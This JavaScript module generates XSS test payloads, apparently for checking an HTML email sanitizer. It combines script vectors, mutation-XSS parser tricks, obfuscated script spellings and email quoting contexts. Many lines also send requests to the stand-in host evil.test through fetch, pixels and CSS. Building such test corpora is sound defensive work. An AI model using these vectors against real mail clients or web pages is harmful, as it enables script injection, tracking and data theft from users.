// Hostile HTML, generated: ways to run a script or to call another server (vectors), what stands around them (contexts), how the
// script is written (spellings), how tags are written (shapes), how the mail carries it (transports). The same number always
// gives the same list. Whoever runs says so: console "xss-N", a data attribute of the document, a request to evil.test.

export const foreign = 'evil.test';
const mark = (n) => `xss-${n}`;

// --- the script ------------------------------------------------------------------------------------------------------------
const plain = (n) => `console.log('${mark(n)}')`;
const spellings = {
  plain,
  unquoted: (n) => `console.log(/${mark(n)}/.source)`,
  dom: (n) => `document.documentElement.dataset.ran='${mark(n)}';console.log('${mark(n)}')`,
  dialog: (n) => `console.log('${mark(n)}');alert('${mark(n)}')`,
  escaped: (n) => `\\u0063onsole['l\\x6fg']('${mark(n)}')`,
  built: (n) => `Function(String.fromCharCode(${[...plain(n)].map((c) => c.charCodeAt(0)).join(',')}))()`,
  base64: (n) => `eval(atob('${Buffer.from(plain(n)).toString('base64')}'))`,
  optional: (n) => `self?.['console']?.log?.(\`${mark(n)}\`)`,
  comma: (n) => `void(0),top['con'+'sole'].log('${mark(n)}')`,
  fetching: (n) => `fetch('//${foreign}/${n}',{mode:'no-cors'}).catch(()=>0),console.log('${mark(n)}')`,
};

// --- attribute values ------------------------------------------------------------------------------------------------------
const each = (s, f) => [...s].map(f).join('');
const html = (s) => s.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const values = {
  quoted: (s) => `"${html(s)}"`,
  single: (s) => `'${html(s).replaceAll("'", '&#39;')}'`,
  decimal: (s) => `"${each(s, (c) => `&#${c.codePointAt(0)};`)}"`,
  hex: (s) => `"${each(s, (c) => `&#x${c.codePointAt(0).toString(16)};`)}"`,
  padded: (s) => `"${each(s, (c) => `&#${String(c.codePointAt(0)).padStart(7, '0')};`)}"`,
  open: (s) => `"${each(s, (c) => (/[a-z]/i.test(c) ? `&#${c.codePointAt(0)}${''};` : html(c)))}"`,
  newlines: (s) => `\n"${html(s)}\n"`,
  naked: (s) => each(s, (c) => (/[\s"'`=<>&]/.test(c) ? `&#${c.codePointAt(0)};` : c)),
};

// --- vectors: {text, runs}; `runs` says whether a browser runs it by itself --------------------------------------------------
const data = (s) => `data:text/html;base64,${Buffer.from(`<script>${s}</script>`).toString('base64')}`;
const vectors = [
  ['script', (s) => `<script>${s}</script>`],
  ['script-module', (s) => `<script type="module">${s}</script>`],
  ['script-data', (s, v) => `<script src=${v(`data:text/javascript,${encodeURIComponent(s)}`)}></script>`],
  ['script-unclosed', (s) => `<script>${s}//`],
  ['script-slash', (s) => `<script/x>${s}</script\t>`],
  ['script-nested', (s) => `<scr<script>ipt>${s}</scr</script>ipt><script>${s}</script>`],
  ['img-error', (s, v) => `<img src=x onerror=${v(s)}>`],
  ['img-error-slashes', (s, v) => `<img/src=x/onerror=${v(s)}>`],
  ['img-load', (s, v) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=${v(s)}>`],
  ['image-alias', (s, v) => `<image src=x onerror=${v(s)}>`],
  ['img-srcset', (s, v) => `<img srcset="x 1x" onerror=${v(s)}>`],
  ['picture', (s, v) => `<picture><source srcset="x"><img onerror=${v(s)}></picture>`],
  ['video-source', (s, v) => `<video><source onerror=${v(s)} src="x"></video>`],
  ['audio-error', (s, v) => `<audio src=x onerror=${v(s)}></audio>`],
  ['video-error', (s, v) => `<video src=x onerror=${v(s)}></video>`],
  ['input-image', (s, v) => `<input type=image src=x onerror=${v(s)}>`],
  ['object-error', (s, v) => `<object data=x onerror=${v(s)}></object>`],
  ['body-load', (s, v) => `<body onload=${v(s)}>`],
  ['body-pageshow', (s, v) => `<body onpageshow=${v(s)}>`],
  ['svg-load', (s, v) => `<svg onload=${v(s)}></svg>`],
  ['svg-load-slash', (s, v) => `<svg/onload=${v(s)}>`],
  ['svg-script', (s) => `<svg><script>${s}</script></svg>`],
  ['svg-script-entity', (s) => `<svg><script>${each(s, (c) => `&#${c.codePointAt(0)};`)}</script></svg>`],
  ['svg-script-href', (s, v) => `<svg><script href=${v(`data:text/javascript,${encodeURIComponent(s)}`)} /></svg>`],
  ['svg-animate', (s, v) => `<svg><animate onbegin=${v(s)} attributeName=x dur=1s></svg>`],
  ['svg-set', (s, v) => `<svg><set onbegin=${v(s)} attributename=x to=1></svg>`],
  ['svg-image', (s, v) => `<svg><image href=x onerror=${v(s)}></svg>`],
  ['svg-foreign', (s, v) => `<svg><foreignObject><img src=x onerror=${v(s)}></foreignObject></svg>`],
  ['svg-title', (s, v) => `<svg><title><img src=x onerror=${v(s)}></title></svg>`],
  ['svg-desc', (s, v) => `<svg><desc><img src=x onerror=${v(s)}></desc></svg>`],
  ['math-mtext', (s, v) => `<math><mtext><img src=x onerror=${v(s)}></mtext></math>`],
  ['math-annotation', (s, v) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${v(s)}></annotation-xml></math>`],
  ['details', (s, v) => `<details open ontoggle=${v(s)}>x</details>`],
  ['input-focus', (s, v) => `<input autofocus onfocus=${v(s)}>`],
  ['select-focus', (s, v) => `<select autofocus onfocus=${v(s)}></select>`],
  ['textarea-focus', (s, v) => `<textarea autofocus onfocus=${v(s)}></textarea>`],
  ['custom-focus', (s, v) => `<zz-a tabindex=1 autofocus onfocus=${v(s)}>x</zz-a>`],
  ['animation', (s, v) => `<style>@keyframes zz{}</style><b style="animation:zz" onanimationend=${v(s)}>x</b>`],
  ['animation-start', (s, v) => `<style>@keyframes zy{}</style><p style="animation-name:zy;animation-duration:1s" onanimationstart=${v(s)}>x</p>`],
  ['link-load', (s, v) => `<link rel=stylesheet href="data:text/css,a{}" onload=${v(s)}>`],
  ['style-load', (s, v) => `<style onload=${v(s)}></style>`],
  ['iframe-load', (s, v) => `<iframe onload=${v(s)}></iframe>`],
  ['iframe-script', (s, v) => `<iframe src=${v(`javascript:${s}`)}></iframe>`],
  ['iframe-srcdoc', (s, v) => `<iframe srcdoc=${v(`<script>parent.console;${s}</script>`)}></iframe>`],
  ['iframe-data', (s, v) => `<iframe src=${v(data(s))}></iframe>`],
  ['object-data', (s, v) => `<object data=${v(data(s))}></object>`],
  ['embed-svg', (s, v) => `<embed src=${v(`data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${html(s)}"/>`).toString('base64')}`)}>`],
  ['shadow', (s, v) => `<div><template shadowrootmode="open"><img src=x onerror=${v(s)}></template></div>`],
  ['marquee', (s, v) => `<marquee onstart=${v(s)}>x</marquee>`],
  ['visibility', (s, v) => `<p style="content-visibility:auto;display:block" oncontentvisibilityautostatechange=${v(s)}>x</p>`],
  ['mxss-noscript', (s, v) => `<noscript><p title="</noscript><img src=x onerror=${v(s).replaceAll('"', '&quot;')}>"></noscript>`],
  ['mxss-style', (s, v) => `<svg></p><style><a id="</style><img src=x onerror=${v(s)}>"></style></svg>`],
  ['mxss-mglyph', (s, v) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${v(s)}>`],
  ['mxss-table', (s, v) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=1&gt;"><img src=x onerror=${v(s)}>`],
  ['mxss-comment', (s, v) => `<!--><img src=x onerror=${v(s)}>-->`],
  ['mxss-bang', (s, v) => `<!-- --!><img src=x onerror=${v(s)}>`],
  ['mxss-cdata', (s, v) => `<svg><![CDATA[><img src=x onerror=${v(s)}>]]></svg><img src=x onerror=${v(s)}>`],
  ['mxss-title', (s, v) => `<title><a title="</title><img src=x onerror=${v(s)}>"></title>`],
  ['mxss-xmp', (s, v) => `<xmp><p title="</xmp><img src=x onerror=${v(s)}>"></xmp>`],
  ['mxss-noembed', (s, v) => `<noembed><img title="</noembed><img src=x onerror=${v(s)}>"></noembed>`],
  ['mxss-textarea', (s, v) => `<textarea><i title="</textarea><svg onload=${v(s)}>"></textarea>`],
  ['double-angle', (s, v) => `<<img src=x onerror=${v(s)}>`],
  ['processing', (s, v) => `<?xml version="1.0"?><img src=x onerror=${v(s)}>`],
  ['doctype', (s, v) => `<!doctype html [<!ENTITY x "y">]><img src=x onerror=${v(s)}>`],
  // The reader has to press, or an old browser, or nothing but a request: they do not count for the control.
  ['link-script', (s, v) => `<a href=${v(`javascript:${s}`)}>press</a>`, false],
  ['link-script-tab', (s, v) => `<a href=${v(`java\tscript:${s}`)}>press</a>`, false],
  ['link-script-control', (s) => `<a href="&#1;javascript:${html(s)}">press</a>`, false],
  ['link-vb', (s) => `<a href="vbscript:${html(s)}">press</a>`, false],
  ['link-data', (s, v) => `<a href=${v(data(s))}>press</a>`, false],
  ['svg-link', (s, v) => `<svg><a xlink:href=${v(`javascript:${s}`)}><text y=20>press</text></a></svg>`, false],
  ['math-link', (s, v) => `<math href=${v(`javascript:${s}`)}>press</math>`, false],
  ['form-action', (s, v) => `<form action=${v(`javascript:${s}`)}><button>press</button></form>`, false],
  ['button-action', (s, v) => `<form><button formaction=${v(`javascript:${s}`)}>press</button></form>`, false],
  ['img-script', (s, v) => `<img src=${v(`javascript:${s}`)}>`, false],
  ['style-expression', (s) => `<p style="width:expression(${html(s)})">x</p>`, false],
  ['style-binding', (s, v, n) => `<p style="-moz-binding:url(//${foreign}/${n})">x</p>`, false],
  ['template', (s) => `<template><script>${s}</script></template>`, false],
  ['expression', (s) => `{{constructor.constructor("${s}")()}} \${${s}} <%= ${s} %>`, false],
  ['pixel', (s, v, n) => `<img src=${v(`https://${foreign}/${n}.gif`)}>`, false],
  ['pixel-srcset', (s, v, n) => `<img srcset=${v(`https://${foreign}/${n}.gif 2x`)} src="data:,">`, false],
  ['css-import', (s, v, n) => `<style>@import url(https://${foreign}/${n}.css);</style>`, false],
  ['css-background', (s, v, n) => `<div style=${v(`background:url(https://${foreign}/${n})`)}>x</div>`, false],
  ['css-list', (s, v, n) => `<ul style=${v(`list-style:url('https://${foreign}/${n}')`)}><li>x</ul>`, false],
  ['css-escape', (s, v, n) => `<div style="background:u\\72l(https://${foreign}/${n})">x</div>`, false],
  ['css-font', (s, v, n) => `<style>@font-face{font-family:q;src:url(//${foreign}/${n})}b{font-family:q}</style><b>x</b>`, false],
  ['css-set', (s, v, n) => `<div style="background:image-set('https://${foreign}/${n}' 1x)">x</div>`, false],
  ['attribute-background', (s, v, n) => `<table background=${v(`//${foreign}/${n}`)}><tr><td background="//${foreign}/${n}b">x</table>`, false],
  ['stylesheet', (s, v, n) => `<link rel=stylesheet href=${v(`//${foreign}/${n}.css`)}>`, false],
  ['prefetch', (s, v, n) => `<link rel=prefetch href=${v(`https://${foreign}/${n}`)}><link rel=dns-prefetch href="//${foreign}">`, false],
  ['refresh', (s, v, n) => `<meta http-equiv=refresh content=${v(`0;url=https://${foreign}/${n}`)}>`, false],
  ['base', (s, v, n) => `<base href="https://${foreign}/"><img src="${n}.gif">`, false],
  ['frame', (s, v, n) => `<iframe src=${v(`https://${foreign}/${n}`)}></iframe>`, false],
  ['embed', (s, v, n) => `<embed src=${v(`https://${foreign}/${n}`)}><object data="https://${foreign}/${n}"></object>`, false],
  ['poster', (s, v, n) => `<video poster=${v(`https://${foreign}/${n}`)} src="https://${foreign}/${n}" autoplay></video>`, false],
  ['svg-use', (s, v, n) => `<svg><use href=${v(`https://${foreign}/${n}#a`)} /><image href="https://${foreign}/${n}"/></svg>`, false],
  ['svg-filter', (s, v, n) => `<svg><filter id=f><feImage href="https://${foreign}/${n}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`, false],
  ['audio', (s, v, n) => `<audio src=${v(`https://${foreign}/${n}`)} autoplay></audio>`, false],
  ['track', (s, v, n) => `<video><track default src=${v(`https://${foreign}/${n}`)}></video>`, false],
  ['ping', (s, v, n) => `<a href="https://${foreign}/${n}" ping="https://${foreign}/ping${n}">x</a>`, false],
  ['input-image-src', (s, v, n) => `<input type=image src=${v(`https://${foreign}/${n}`)}>`, false],
  ['manifest', (s, v, n) => `<link rel=icon href="//${foreign}/${n}.ico"><link rel=manifest href="//${foreign}/${n}">`, false],
].map(([name, text, runs = true]) => ({ name, text, runs }));

// --- what stands around ------------------------------------------------------------------------------------------------------
const contexts = {
  alone: (p) => p,
  paragraph: (p) => `<p>Dear team, ${p} thank you.</p>`,
  quote: (p) => `<p>Here.</p><div class="gmail_quote"><div class="gmail_attr">On Mon, 2 Jun 2025 at 10:00, Sahay wrote:</div><blockquote class="gmail_quote">${p}</blockquote></div>`,
  signature: (p) => `<p>Here.</p><div class="gmail_signature">-- <br>${p}</div>`,
  table: (p) => `<table><tr><td>${p}</td></tr></table>`,
  'broken table': (p) => `<table><tr>${p}<td>x`,
  'out of an attribute': (p) => `<a title="${'"'}>${p}`,
  'out of a title': (p) => `</title></style></textarea>${p}`,
  'deep formatting': (p) => `${'<b><i>'.repeat(20)}${p}`,
  'deep blocks': (p) => `${'<div>'.repeat(60)}${p}`,
  list: (p) => `<ul><li>a<li>${p}</ul>`,
  outlook: (p) => `<div class="WordSection1"><p class="MsoNormal">Here.<o:p></o:p></p></div><div id="divRplyFwdMsg"><b>From:</b> a</div><div>${p}</div>`,
  'after a comment': (p) => `<!-- x -->${p}<!-- y -->`,
  'after head': (p) => `<html><head><style>p{margin:0}</style></head><body>${p}</body></html>`,
  'inside conditional': (p) => `<!--[if !mso]><!-->${p}<!--<![endif]-->`,
  'long before': (p) => `<p>${'word '.repeat(400)}</p>${p}`,
};

// --- how the tags are written ------------------------------------------------------------------------------------------------
const upper = (s) => s.replace(/<\/?[a-z][a-z-]*/gi, (tag) => each(tag, (c, i) => (i % 2 ? c : c.toUpperCase())));
const alternate = (s) => s.replace(/<\/?[a-z][a-z-]*|\son[a-z]+=/gi, (word) => [...word].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join(''));
const shapes = {
  'as it is': (s) => s,
  upper,
  alternate,
  'tabs and feeds': (s) => s.replace(/<([a-z]+) (\w+)/gi, '<$1\t\f\n$2'),
  'spaces around equals': (s) => s.replace(/ (on[a-z]+)=/gi, ' $1 = '),
  'twice the attribute': (s) => s.replace(/ (on[a-z]+)=/gi, ' data-x="1" $1='),
};

// --- how the mail carries it -------------------------------------------------------------------------------------------------
export const transports = ['8bit', 'base64', 'quoted-printable', 'alternative', 'related', 'utf-16', 'utf-7', 'latin1', 'html in text', 'attached'];

function random(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

/** `count` payloads: {id, name, html, runs, transport}. Every vector in every context comes first, then more of each. */
export function payloads(count) {
  const names = { spellings: Object.keys(spellings), values: Object.keys(values), contexts: Object.keys(contexts), shapes: Object.keys(shapes) };
  const next = random(20250602);
  const list = [];
  const seen = new Set();
  for (let round = 0; list.length < count; round++) {
    // Steps through vectors and contexts so that a short list has some of everything.
    const vector = vectors[(round * 7) % vectors.length];
    const context = names.contexts[(round * 5 + Math.floor(round / vectors.length)) % names.contexts.length];
    const spelling = names.spellings[next(names.spellings.length)];
    const value = names.values[next(names.values.length)];
    const shape = names.shapes[next(3) ? 0 : next(names.shapes.length)];
    const id = list.length + 1;
    const made = contexts[context](shapes[shape](vector.text(spellings[spelling](id), values[value], id)));
    const name = `${vector.name}/${context}/${spelling}/${value}/${shape}`;
    if (seen.has(name) && round < count * 4) continue;
    seen.add(name);
    list.push({ id, name, html: made, runs: vector.runs, transport: transports[list.length % transports.length] });
  }
  return list;
}
